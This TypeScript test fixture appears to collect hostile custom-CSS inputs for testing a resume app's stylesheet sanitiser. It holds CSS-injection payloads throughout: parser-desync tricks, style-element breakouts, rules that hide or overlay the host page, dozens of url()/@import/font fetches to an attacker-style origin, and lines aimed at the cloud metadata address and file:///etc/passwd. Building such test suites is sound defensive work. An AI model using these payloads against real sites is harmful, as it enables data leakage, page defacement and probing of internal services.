/*
 * Hostile custom CSS, gathered from break-in testing and the usual CSS-injection write-ups. Every
 * entry is a function of the origin of a loopback server that records hits: whatever the browser
 * fetches from it is a leak. `.vr-name` is the resume's name heading (inside the resume).
 */
export type HostileCss = { name: string; css: (evil: string) => string };

const hide =
  "display: none !important; visibility: hidden !important; opacity: 0 !important; background: red !important; color: red !important; font-size: 1px !important; transform: scale(0) !important; clip-path: inset(50%) !important; filter: blur(9px) !important; margin: 99px !important; padding: 99px !important";

export const hostileCss: HostileCss[] = [
  // Desynchronising a hand-written tokenizer: escapes, comments, strings, stray braces.
  // A hand-written tokenizer ends the URL at the escaped paren; the browser reads on to the next
  // ")", swallowing the nested rules' opening braces, so the braces that closed them close the scope.
  {
    name: "escaped paren in an unquoted url",
    css: () => `.x { background: url(a\\); .y { ) } } body { ${hide} } html { ${hide} } #chrome-footer { ${hide} }`,
  },
  {
    name: "escaped paren, then @page",
    css: () =>
      `.x { background: url(/uploads/a.png\\); .y { ) } } @page { margin: 0 !important; @bottom-left { content: none !important } } body { ${hide} }`,
  },
  { name: "hex-escaped paren \\29", css: () => `.x { background: url(a\\29 ; } .z { ) } body { ${hide} }` },
  {
    name: "hex-escaped brace \\7d",
    css: () => `.x { content: "\\7d"; } \\7d body { ${hide} } .y { --a: \\7d } html { ${hide} }`,
  },
  {
    name: "comment splitting tokens",
    css: () => `.x /* } */ { color: red } bo/**/dy { ${hide} } /* { */ } html { ${hide} }`,
  },
  { name: "unterminated comment", css: () => `html { ${hide} } /* .x { color: red }` },
  { name: "unterminated string", css: () => `.x { content: "abc } body { ${hide} }` },
  { name: "newline in string", css: () => `.x { content: "a\n} body { ${hide} } .y { content: "` },
  {
    name: "closing the style element",
    css: (evil) => `</style><style>body { ${hide} }</style><img src="${evil}/style-break">`,
  },
  {
    name: "closing the style element inside a string",
    css: () => `.x::after { content: "</style><style>body{${hide}}</style>" }`,
  },
  { name: "unbalanced closing braces", css: () => `} } } body { ${hide} } html { ${hide} }` },
  { name: "unbalanced opening braces", css: () => `.x { .y { .z { color: red` },
  {
    name: "semicolons and braces in an unquoted data url",
    css: () => `.x { background: url(data:image/svg+xml;utf8,<svg>}body{${hide}}</svg>) }`,
  },
  { name: "CDO and CDC", css: () => `<!-- body { ${hide} } --> html { ${hide} }` },
  { name: "null bytes", css: () => `.x\u0000 { color: red } b\u0000ody { ${hide} } body { ${hide} }` },

  // Rules that reach outside the resume.
  { name: ":root", css: () => `:root { ${hide} } :root body { ${hide} }` },
  { name: "html and body", css: () => `html { ${hide} } body { ${hide} } html body { ${hide} } body > * { ${hide} }` },
  { name: "escaped body", css: () => `b\\6f dy { ${hide} } \\68 tml { ${hide} }` },
  { name: ":has(&)", css: () => `html:has(&) body { ${hide} } body:has(&) { ${hide} } :has(> &) { ${hide} }` },
  { name: ":not(&) and :is(&)", css: () => `:not(&) { ${hide} } :is(html, &) { ${hide} } :where(&) ~ * { ${hide} }` },
  {
    name: "nesting selector after context",
    css: () => `html & { color: red } body & ~ * { ${hide} } & + * { ${hide} } & ~ * { ${hide} }`,
  },
  { name: "relative sibling selectors", css: () => `+ * { ${hide} } ~ * { ${hide} } ~ footer { ${hide} }` },
  {
    name: ":host and :scope",
    css: () => `:host { ${hide} } :host-context(body) { ${hide} } :scope { ${hide} } :scope ~ * { ${hide} }`,
  },
  { name: "nth-child of &", css: () => `:nth-child(1 of &) ~ * { ${hide} } * :nth-child(n of :not(&)) { ${hide} }` },
  {
    name: "@scope with a root outside",
    css: () => `@scope (html) { body { ${hide} } :scope { ${hide} } } @scope (body) to (.vr-root) { * { ${hide} } }`,
  },
  {
    name: "conditions with top-level selectors",
    css: () =>
      `@media all { body { ${hide} } } @supports (display: grid) { html { ${hide} } } @container (min-width: 0) { body { ${hide} } } @layer a { body { ${hide} } }`,
  },
  {
    name: "deeply nested conditions",
    css: () =>
      `@media all { @supports (color: red) { @layer x { @container (min-width: 0px) { :root { ${hide} } body { ${hide} } } } } }`,
  },
  {
    name: "nesting into the page",
    css: () => `.x { html & { ${hide} } } & { html & { ${hide} } :root & { ${hide} } }`,
  },
  {
    name: "@page",
    css: () =>
      `@page { margin: 0 !important; size: 10mm 10mm; @bottom-left { content: none !important } @bottom-right { content: none !important } @bottom-center { content: "" } }`,
  },
  {
    name: "@page nested",
    css: () => `.x { @page { margin: 0 } } @media print { @page { @bottom-left { content: none } } }`,
  },
  {
    name: "@namespace and @charset",
    css: (evil) =>
      `@charset "utf-8"; @namespace url(${evil}/ns); @namespace h url(http://www.w3.org/1999/xhtml); h|body { ${hide} }`,
  },
  {
    name: "@property",
    css: () => `@property --vr-margin { syntax: "<length>"; inherits: true; initial-value: 500px }`,
  },
  {
    name: "@keyframes that hide",
    css: () =>
      `@keyframes hide { to { opacity: 0 } } body { animation: hide 0s forwards } html { animation: hide 0s forwards }`,
  },
  {
    name: "@counter-style and @position-try",
    css: (evil) =>
      `@counter-style x { system: cyclic; symbols: url(${evil}/counter.png); } @position-try --x { top: 0 } @font-feature-values Font { @swash { x: 1 } }`,
  },

  // Fetching: url() in every spelling, image functions, variables, environment values.
  {
    name: "@import in all spellings",
    css: (evil) =>
      `@import url(${evil}/import-1.css); @import "${evil}/import-2.css"; @IMPORT url('${evil}/import-3.css'); @\\69mport url(${evil}/import-4.css); @import/**/url(${evil}/import-5.css); @import url(${evil}/import-6.css) layer(x) supports(display: grid) screen;`,
  },
  { name: "@import after rules", css: (evil) => `.x { color: red } @import url(${evil}/import-late.css);` },
  {
    name: "@font-face with src",
    css: (evil) =>
      `@font-face { font-family: Evil; src: url(${evil}/font.woff2) format("woff2"), local(Arial) } .vr-name { font-family: Evil !important }`,
  },
  {
    name: "@font-face with src()",
    css: (evil) =>
      `@font-face { font-family: Evil2; src: src("${evil}/font-src.woff2") } .vr-name { font-family: Evil2 }`,
  },
  {
    name: "url unquoted, quoted and escaped",
    css: (evil) =>
      `.vr-name { background: url(${evil}/u1) } .vr-headline { background: url("${evil}/u2") } .vr-section { background: url('${evil}/u3') } .vr-heading { background: u\\72l(${evil}/u4) } .vr-item { background: \\75 rl(${evil}/u5) } .vr-link { background: URL(${evil}/u6) } .vr-keyword { background: url( ${evil}/u7 ) }`,
  },
  {
    name: "url with escaped scheme",
    css: (evil) =>
      `.vr-name { background: url("\\${evil.slice(0, 1)}${evil.slice(1)}/u8") } .vr-headline { background: url(${evil.replace("http", "htt\\70")}/u9) }`,
  },
  {
    name: "protocol-relative and backslash urls",
    css: (evil) =>
      `.vr-name { background: url(${evil.replace("http:", "")}/u10) } .vr-headline { background: url(${evil.replace("http://", "\\\\\\\\")}/u11) } .vr-section { background: url(/\\${evil.replace("http://", "")}/u12) }`,
  },
  {
    name: "image-set with a variable",
    css: (evil) => `.vr-name { --u: "${evil}/var-image-set"; background-image: image-set(var(--u) 1x) }`,
  },
  {
    name: "image-set with a string",
    css: (evil) =>
      `.vr-name { background-image: image-set("${evil}/image-set" 1x); } .vr-headline { background-image: -webkit-image-set("${evil}/webkit-image-set" 1x) } .vr-section { background-image: image-set(url(${evil}/image-set-url) 1x) }`,
  },
  {
    name: "image() and cross-fade()",
    css: (evil) =>
      `.vr-name { background-image: image("${evil}/image") } .vr-headline { background-image: cross-fade(url(${evil}/cross-fade) 50%, red) } .vr-section { background-image: -webkit-cross-fade(url(${evil}/webkit-cross-fade), url(${evil}/b), 50%) }`,
  },
  {
    name: "src() with a variable",
    css: (evil) =>
      `.vr-name { --u: "${evil}/src-var"; background-image: src(var(--u)) } .vr-headline { background-image: src("${evil}/src") }`,
  },
  {
    name: "variables holding urls",
    css: (evil) =>
      `.vr-root, .vr-name { --bg: url(${evil}/var-url); background: var(--bg) } .vr-headline { --i: image-set("${evil}/var-set" 1x); background-image: var(--i) }`,
  },
  {
    name: "variables split across a function",
    css: (evil) => `.vr-name { --a: "${evil}/split"; --f: image-set(var(--a) 1x); background-image: var(--f) }`,
  },
  {
    name: "env() and attr() in fetching contexts",
    css: (evil) =>
      `.vr-name { background-image: image-set(env(--u, "${evil}/env") 1x) } .vr-link { background-image: image-set(attr(href) 1x); background-image: image(attr(href type(<url>))) }`,
  },
  {
    name: "url in every fetching property",
    css: (evil) =>
      `.vr-name { list-style-image: url(${evil}/p1); cursor: url(${evil}/p2), auto; border-image: url(${evil}/p3) 30; mask-image: url(${evil}/p4); -webkit-mask-image: url(${evil}/p5); shape-outside: url(${evil}/p6); content: url(${evil}/p7); filter: url(${evil}/p8#f); clip-path: url(${evil}/p9#c); offset-path: url(${evil}/p10#o) } .vr-name::before { content: url(${evil}/p11) } .vr-item { list-style: url(${evil}/p12) inside }`,
  },
  {
    name: "fetching inside @supports and @media preludes and nested rules",
    css: (evil) =>
      `@media all { .vr-name { background: url(${evil}/m1) } } @supports (background: url(${evil}/s1)) { .vr-name { & .x, & { background: url(${evil}/s2) } } } .vr-name { @media print, screen { background: url(${evil}/m2) } }`,
  },
  {
    name: "metadata address and file urls",
    css: () =>
      `.vr-name { background: url(http://169.254.169.254/latest/meta-data/) } .vr-headline { background: url(file:///etc/passwd) } .vr-section { background: url(javascript:alert(1)) }`,
  },
  {
    name: "relative urls that hit the app",
    css: () =>
      `.vr-name { background: url(track.png) } .vr-headline { background: url(/api/user/me) } .vr-section { background: url(/uploads/../api/x) } .vr-heading { background: url(?view=1) }`,
  },

  // Script hooks of old engines (no effect in Chromium; refused anyway) and content tricks.
  {
    name: "expression, -moz-binding, behavior",
    css: (evil) =>
      `.vr-name { width: expression(alert(1)); -moz-binding: url(${evil}/binding.xml#x); behavior: url(${evil}/b.htc); b\\65havior: url(${evil}/b2.htc) }`,
  },
  {
    name: "content with counter and attr outside",
    css: () => `body::before { content: counter(x) "OWNED" attr(class) } html::after { content: "OWNED" }`,
  },
  {
    name: "position fixed overlays",
    css: () =>
      `.vr-name { position: fixed !important; inset: -100vh -100vw !important; z-index: 2147483647 !important; background: red !important } & { position: fixed; top: 0; left: 0; z-index: 2147483647 }`,
  },
  {
    name: "::before overlay",
    css: () =>
      `.vr-name::before { content: "OWNED"; position: fixed; inset: 0; z-index: 2147483647; background: red } & ::after { content: ""; position: fixed; bottom: 0; left: 0; right: 0; height: 40px; background: #fff; z-index: 2147483647 }`,
  },
  { name: "very long input", css: () => `${".vr-name { color: #123 } ".repeat(8_000)} body { ${hide} }` },
  {
    name: "very deep nesting",
    css: () => `${".x { ".repeat(3_000)} body { ${hide} } ${"} ".repeat(3_000)} html { ${hide} }`,
  },
];

/** Custom CSS a resume may use: it must still apply. */
export const legitCss = `
.vr-name { color: rgb(1, 2, 3); letter-spacing: 2px; font-family: "Inter", sans-serif; }
.vr-section h2 { color: #0f766e; margin-block-end: 7px; }
.vr-section { .vr-heading { text-transform: uppercase; } }
.vr-headline { font-style: italic; }
& .vr-contact { padding-inline-start: 3px; }
@media screen { .vr-name { text-decoration: underline; } }
@media print { .vr-name { text-decoration: underline; } }
.vr-item { & + & { border-top: 1px solid rgb(4, 5, 6); } }
`;
